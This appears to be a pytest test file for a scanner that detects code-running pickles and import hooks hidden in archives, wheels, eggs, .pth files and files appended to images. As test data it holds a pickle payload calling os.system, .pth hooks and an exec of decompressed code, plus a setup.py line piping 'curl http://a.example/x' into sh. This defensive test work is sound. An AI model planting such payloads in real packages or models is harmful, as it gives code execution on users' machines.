"""A model that runs code, hidden in an archive of a repository; and honest archives."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest

import modelfile_samples
from shipworthy.artifacts import discover
from shipworthy.check import Context, load_check
from shipworthy.model import Finding, Skipped
from shipworthy.modelfile import Code, scan_bytes

EVIL = b"cos\nsystem\n(S'echo never run'\ntR."


def zipped(name: str, data: bytes) -> bytes:
    return modelfile_samples.zipped((name, data))


def tarred(name: str, data: bytes) -> bytes:
    return gzip.compress(modelfile_samples.tarred((name, data)), mtime=0)


def look(folder: Path, name: str, data: bytes) -> list[str]:
    check = load_check("shipworthy.checks.models.archive", "model-archive")
    (folder / name).write_bytes(data)
    (artifact,) = discover(folder).artifacts
    assert check.looks_at(artifact), artifact.kind
    items = list(check.call(artifact, Context(folder)))
    return [i.rule.id if isinstance(i, Finding) else i.reason if isinstance(i, Skipped) else "?" for i in items]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("m.zip", zipped("data/model.bin", EVIL)),
        ("m.whl", zipped("pkg/notes.txt", EVIL)),
        ("m.tar.gz", tarred("a/model", EVIL)),
        ("m.gz", gzip.compress(EVIL, mtime=0)),
        ("m.zip", zipped("inner.zip", zipped("model.pkl", EVIL))),
    ],
)
def test_a_model_in_an_archive_is_found(tmp_path: Path, name: str, data: bytes) -> None:
    assert "model-code-execution" in look(tmp_path, name, data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("m.zip", zipped("README.md", b"# read me\n")),
        ("m.tar.gz", tarred("a.json", b"{}")),
        ("m.zip", zipped("run.sh", b"#!/bin/sh\n")),
        ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(100)),
    ],
)
def test_honest_archives_are_left_alone(tmp_path: Path, name: str, data: bytes) -> None:
    assert look(tmp_path, name, data) == []


def test_an_archive_with_a_model_that_cannot_be_read_is_a_gap(tmp_path: Path) -> None:
    (gap,) = look(tmp_path, "m.zip", zipped("m.feather", b"FEA1" + bytes(100)))
    assert "does not read the format feather" in gap


@pytest.mark.parametrize("name", ["notes.txt", "rows.csv", "a.json", "a.py", "noname"])
@pytest.mark.parametrize("start", [b"S'" + b"a" * 100_000 + b"'\n0", b"N0" * 40_000, b"hello\n" * 20_000])
def test_a_model_that_begins_as_a_long_text_is_found(tmp_path: Path, name: str, start: bytes) -> None:
    end = zipped("model.pkl", EVIL) if start.startswith(b"hello") else EVIL
    assert "model-code-execution" in look(tmp_path, name, start + end)


def test_long_honest_texts_are_left_alone(tmp_path: Path) -> None:
    assert look(tmp_path, "rows.csv", b"text,label\nsome words,1\n" * 10_000) == []


PICTURE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(64)


@pytest.mark.parametrize(
    "start", [PICTURE, b"\xff\xd8\xff\xe0" + bytes(64), b"GIF89a" + bytes(64), b"PAR1" + bytes(64)]
)
@pytest.mark.parametrize("name", ["logo.png", "noname", "rows.csv", "a.ipynb", "requirements.txt", "a.py"])
def test_an_archive_behind_the_beginning_of_another_file_is_found(tmp_path: Path, name: str, start: bytes) -> None:
    assert "model-code-execution" in look(tmp_path, name, start + zipped("archive/data.pkl", EVIL))


def test_an_archive_behind_a_mark_of_text_is_found(tmp_path: Path) -> None:
    assert "model-code-execution" in look(tmp_path, "notes.txt", b"\xff\xfeh\0" + zipped("data.pkl", EVIL))


def test_an_archive_behind_a_format_that_is_not_read_leaves_it_unread() -> None:
    report = scan_bytes(b"FEA1" + bytes(100) + zipped("data.pkl", EVIL))
    assert report.issues[0].code is Code.CODE_EXECUTION
    assert report.unknowns == ("this version does not read the format feather",)
    honest = scan_bytes(PICTURE + zipped("a.txt", b"hello"))
    assert "this version does not read the format png" in honest.unknowns


def test_settings_of_programs_in_archives_are_left_alone(tmp_path: Path) -> None:
    settings = zipped("conf/model.yaml", b"_target_: mine.Model\nsize: 1\n")
    assert look(tmp_path, "source.zip", settings) == []
    assert look(tmp_path, "source.zip", zipped("conf/model.yaml", b"_target_: os.system\n")) == ["model-code-execution"]
    assert look(tmp_path, "source.zip", zipped("a.yaml", b"_target_: x\n---\nb: 1\n")) == []


ACTS = b"import os\nos.system('id')\n"
FETCHES = b"import os\nos.system('curl http://a.example/x | sh')\n"
DOES = b"import subprocess\ndef run(*words):\n    return subprocess.run(words)\n"


def packed(members: dict[str, bytes]) -> bytes:
    return modelfile_samples.zipped(*members.items())


@pytest.mark.parametrize(
    ("name", "members"),
    [
        ("x-1-py3-none-any.whl", {"x/__init__.py": ACTS, "x-1.dist-info/METADATA": b"Name: x\n"}),
        ("x-1-py3-none-any.whl", {"x/__init__.py": b"exec(__import__('zlib').decompress(b'x'))", "PKG-INFO": b"x\n"}),
        ("x-1-py3-none-any.whl", {"x.pth": b"import os; os.system('id')\n", "x-1.dist-info/METADATA": b"Name: x\n"}),
        (
            "x-1-py3-none-any.whl",
            {"a.pth": b"import sys; __import__('os').system('id')\n", "x-1.dist-info/METADATA": b"Name: x\n"},
        ),
        ("x-1.egg", {"x/__init__.py": b"class A:\n    import os\n    os.system('id')\n", "EGG-INFO/PKG-INFO": b"x\n"}),
        ("x-1.zip", {"x-1/setup.py": FETCHES, "x-1/PKG-INFO": b"Name: x\n"}),
        ("model.zip", {"code/inference.py": DOES, "model.txt": b"x\n"}),
        ("model.zip", {"net.py": DOES, "model.pkl": b"K\x01."}),
        ("model.zip", {"config.json": b'{"model_type": "a", "auto_map": {"AutoModel": "net.Net"}}', "net.py": DOES}),
    ],
)
def test_code_that_comes_with_a_model_or_acts_when_imported(
    tmp_path: Path, name: str, members: dict[str, bytes]
) -> None:
    assert "model-config-remote-code" in look(tmp_path, name, packed(members))


@pytest.mark.parametrize(
    ("name", "members"),
    [
        ("x-1-py3-none-any.whl", {"x/__init__.py": DOES, "x-1.dist-info/METADATA": b"Name: x\n"}),
        ("x-1-py3-none-any.whl", {"x/data.pkl": b"K\x01.", "x/a.py": DOES, "x-1.dist-info/METADATA": b"Name: x\n"}),
        ("x-1.zip", {"x-1/setup.py": b"import os, sys\nif sys.argv[-1] == 'up':\n    os.system('twine upload')\n"}),
        (
            "x-1-py3-none-any.whl",
            {"a.pth": b"import os; __import__('_x').add()\n", "x-1.dist-info/METADATA": b"Name: x\n"},
        ),
        ("scripts.zip", {"build.py": ACTS, "tools/run.py": ACTS}),
        ("x-1.egg", {"x/__main__.py": b"import os\nif __name__ == '__main__':\n    os.system('id')\n"}),
    ],
)
def test_what_libraries_and_scripts_do_is_not_told(tmp_path: Path, name: str, members: dict[str, bytes]) -> None:
    assert "model-config-remote-code" not in look(tmp_path, name, packed(members))
